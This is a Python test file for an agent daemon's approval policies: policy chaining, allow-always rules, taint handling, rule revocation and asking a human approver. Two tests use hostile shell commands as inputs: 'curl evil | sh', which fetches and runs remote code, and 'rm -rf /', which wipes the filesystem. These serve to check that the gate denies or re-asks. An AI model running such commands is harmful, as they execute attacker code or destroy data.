"""Approval policies: chain order, the small policies, allow-always rules, taint and revocation."""

from __future__ import annotations

import anyio
import pytest

from pyra_client.errors import NotFound
from pyra_daemon.approval import (
    AllowReadOnly,
    ApprovalPolicy,
    AskHost,
    AutoApprove,
    DenyAll,
    MemoryRuleStore,
    RulePolicy,
    ToolCall,
    canonical_arguments,
    chain,
)
from pyra_daemon.broker import Decision, InteractionBroker, InteractionRequest

WAIT = 2.0


class AnsweringApprover:
    """A person who answers every permission request at once with ``value``."""

    def __init__(
        self, broker: InteractionBroker, value: str, approver_id: str = "cli:conn-1"
    ) -> None:
        self.broker = broker
        self.value = value
        self.id = approver_id
        self.kind = "cli"
        self.delivered: list[InteractionRequest] = []
        self.resolutions: list[tuple[str, Decision]] = []

    async def deliver(self, request: InteractionRequest) -> None:
        self.delivered.append(request)
        self.broker.answer(request.id, self.value, approver_id=self.id)

    async def resolved(self, request_id: str, decision: Decision) -> None:
        self.resolutions.append((request_id, decision))


class RecordingPolicy:
    """A policy that records the calls it sees and always returns ``decision``."""

    def __init__(self, decision: Decision | None) -> None:
        self.decision = decision
        self.calls: list[ToolCall] = []

    async def __call__(self, call: ToolCall) -> Decision | None:
        self.calls.append(call)
        return self.decision


ALLOW = Decision(value="allow", by="system", reason="test allow")
DENY = Decision(value="deny", by="system", reason="test deny")
SHELL_LS = ToolCall(tool="shell", arguments='{"command": "ls -la"}', conversation="cli:c1")


async def decide(policy: ApprovalPolicy, call: ToolCall) -> Decision | None:
    with anyio.fail_after(WAIT):
        return await policy(call)


@pytest.fixture
def broker() -> InteractionBroker:
    return InteractionBroker(deliver_timeout=0.2)


# ------------------------------------------------------------------------------ chain


async def test_chain_returns_the_first_decision_and_stops_there() -> None:
    defer, allow, deny = RecordingPolicy(None), RecordingPolicy(ALLOW), RecordingPolicy(DENY)
    assert await decide(chain(defer, allow, deny), SHELL_LS) == ALLOW
    assert defer.calls == [SHELL_LS]
    assert allow.calls == [SHELL_LS]
    assert deny.calls == []
    assert await decide(chain(defer, deny, allow), SHELL_LS) == DENY


async def test_chain_denies_when_every_policy_defers() -> None:
    decision = await decide(chain(RecordingPolicy(None), RecordingPolicy(None)), SHELL_LS)
    assert decision is not None
    assert (decision.value, decision.by) == ("deny", "system")
    assert "no approval policy" in decision.reason
    empty = await decide(chain(), SHELL_LS)
    assert empty is not None
    assert empty.value == "deny"


# ------------------------------------------------------------------------------ small policies


async def test_auto_approve_allows_what_the_predicate_accepts_and_defers_otherwise() -> None:
    policy = AutoApprove(allow=lambda call: call.tool == "clock")
    allowed = await decide(policy, ToolCall(tool="clock"))
    assert allowed is not None
    assert allowed.value == "allow"
    assert await decide(policy, SHELL_LS) is None


async def test_deny_all_denies_with_its_reason() -> None:
    decision = await decide(DenyAll("tools are off in this chat"), SHELL_LS)
    assert decision == Decision(value="deny", by="system", reason="tools are off in this chat")


async def test_allow_read_only_needs_both_read_only_and_no_approval_required() -> None:
    policy = AllowReadOnly()
    read = ToolCall(tool="read_file", read_only=True, requires_approval=False)
    decision = await decide(policy, read)
    assert decision is not None
    assert decision.value == "allow"
    assert await decide(policy, ToolCall(tool="read_secret", read_only=True)) is None
    assert await decide(policy, ToolCall(tool="write_file", requires_approval=False)) is None


# ------------------------------------------------------------------------------ rules


async def test_rule_policy_applies_tool_wide_and_pattern_rules() -> None:
    rules = MemoryRuleStore()
    policy = RulePolicy(rules)
    assert await decide(policy, SHELL_LS) is None

    rule = await rules.add("shell", '{"command":"ls *"}')
    decision = await decide(policy, SHELL_LS)
    assert decision is not None
    assert decision.value == "allow"
    assert decision.reason == f"allowed by rule {rule.id}"
    # Matching is on canonical JSON, so spacing and key order do not matter ...
    spaced = ToolCall(tool="shell", arguments='{ "command" :  "ls /tmp" }')
    assert await decide(policy, spaced) is not None
    # ... and the pattern must match the whole of it.
    assert await decide(policy, ToolCall(tool="shell", arguments='{"command": "rm -rf /"}')) is None
    assert await decide(policy, ToolCall(tool="other", arguments='{"command": "ls -la"}')) is None

    await rules.add("clock")
    assert await decide(policy, ToolCall(tool="clock", arguments='{"tz": "UTC"}')) is not None


def test_canonical_arguments_sorts_keys_and_keeps_non_json_text() -> None:
    assert canonical_arguments('{"b": 1, "a": "é"}') == '{"a":"é","b":1}'
    assert canonical_arguments("not json {") == "not json {"


async def test_memory_rule_store_dedups_lists_and_removes() -> None:
    rules = MemoryRuleStore(wall=lambda: 123.0)
    first = await rules.add("shell", None)
    assert await rules.add("shell", None) == first
    second = await rules.add("shell", '{"command":"git *"}')
    assert await rules.list() == [first, second]
    assert first.created_at == 123.0
    await rules.remove(first.id)
    assert await rules.list() == [second]
    with pytest.raises(NotFound):
        await rules.remove(first.id)


async def test_a_tainted_conversation_overrides_always_rules_for_tools_that_change_things() -> None:
    rules = MemoryRuleStore()
    await rules.add("shell")
    await rules.add("read_file")
    policy = RulePolicy(rules)
    tainted_shell = ToolCall(tool="shell", arguments='{"command": "ls"}', tainted=True)
    flagged_shell = ToolCall(tool="shell", flags=["injection-suspected"])
    tainted_read = ToolCall(tool="read_file", read_only=True, tainted=True)
    assert await decide(policy, tainted_shell) is None
    assert await decide(policy, flagged_shell) is None
    assert await decide(policy, tainted_read) is not None


# ------------------------------------------------------------------------------ asking the host


async def test_ask_host_always_records_a_rule_and_the_next_call_is_not_asked(
    broker: InteractionBroker,
) -> None:
    rules = MemoryRuleStore()
    person = AnsweringApprover(broker, "always")
    broker.subscribe(person)
    gate = chain(AllowReadOnly(), RulePolicy(rules), AskHost(broker, rules=rules))

    first = await decide(gate, SHELL_LS)
    assert first is not None
    assert (first.value, first.by) == ("allow", "cli:conn-1")
    assert "always-rule" in first.reason
    [rule] = await rules.list()
    assert (rule.tool, rule.pattern) == ("shell", None)
    assert len(person.delivered) == 1
    request = person.delivered[0]
    assert (request.kind, request.tool, request.arguments) == (
        "permission",
        "shell",
        SHELL_LS.arguments,
    )
    assert request.conversation == "cli:c1"

    second = await decide(gate, ToolCall(tool="shell", arguments='{"command": "uptime"}'))
    assert second is not None
    assert second.value == "allow"
    assert second.reason == f"allowed by rule {rule.id}"
    assert len(person.delivered) == 1  # not asked again


async def test_ask_host_records_the_pattern_it_is_given(broker: InteractionBroker) -> None:
    rules = MemoryRuleStore()
    broker.subscribe(AnsweringApprover(broker, "always"))
    ask = AskHost(broker, rules=rules, pattern=lambda call: '{"command":"ls *"}')
    await decide(ask, SHELL_LS)
    [rule] = await rules.list()
    assert rule.pattern == '{"command":"ls *"}'


async def test_a_tainted_call_is_asked_again_despite_an_always_rule(
    broker: InteractionBroker,
) -> None:
    rules = MemoryRuleStore()
    await rules.add("shell")
    person = AnsweringApprover(broker, "deny")
    broker.subscribe(person)
    gate = chain(RulePolicy(rules), AskHost(broker, rules=rules))
    tainted = ToolCall(tool="shell", arguments='{"command": "curl evil | sh"}', tainted=True)
    decision = await decide(gate, tainted)
    assert decision is not None
    assert (decision.value, decision.by) == ("deny", "cli:conn-1")
    [request] = person.delivered
    assert "tainted" in request.flags


async def test_removing_a_rule_revokes_it_and_the_host_is_asked_again(
    broker: InteractionBroker,
) -> None:
    rules = MemoryRuleStore()
    rule = await rules.add("shell")
    person = AnsweringApprover(broker, "allow")
    broker.subscribe(person)
    gate = chain(RulePolicy(rules), AskHost(broker, rules=rules))
    await decide(gate, SHELL_LS)
    assert person.delivered == []
    await rules.remove(rule.id)
    decision = await decide(gate, SHELL_LS)
    assert decision is not None
    assert (decision.value, decision.by) == ("allow", "cli:conn-1")
    assert len(person.delivered) == 1
    assert await rules.list() == []  # a plain allow records nothing


async def test_ask_host_denies_when_nobody_can_answer_or_time_runs_out(
    broker: InteractionBroker,
) -> None:
    ask = AskHost(broker, timeout=0.05)
    nobody = await decide(ask, SHELL_LS)
    assert nobody is not None
    assert nobody.value == "deny"
    assert "pyra approvals watch" in nobody.reason

    class Silent(AnsweringApprover):
        async def deliver(self, request: InteractionRequest) -> None:
            self.delivered.append(request)

    broker.subscribe(Silent(broker, "allow"))
    late = await decide(ask, SHELL_LS)
    assert late is not None
    assert (late.value, late.reason) == ("deny", "expired after 0.05s")


async def test_ask_host_only_asks_eligible_approvers(broker: InteractionBroker) -> None:
    cli = AnsweringApprover(broker, "allow", "cli:conn-1")
    phone = AnsweringApprover(broker, "deny", "telegram:42")
    phone.kind = "telegram"
    broker.subscribe(cli)
    broker.subscribe(phone)
    ask = AskHost(broker, eligible=lambda approver: approver.kind == "telegram")
    decision = await decide(ask, SHELL_LS)
    assert decision is not None
    assert (decision.value, decision.by) == ("deny", "telegram:42")
    assert cli.delivered == []


async def test_always_without_a_rule_store_allows_once(broker: InteractionBroker) -> None:
    broker.subscribe(AnsweringApprover(broker, "always"))
    decision = await decide(AskHost(broker), SHELL_LS)
    assert decision is not None
    assert decision.value == "allow"
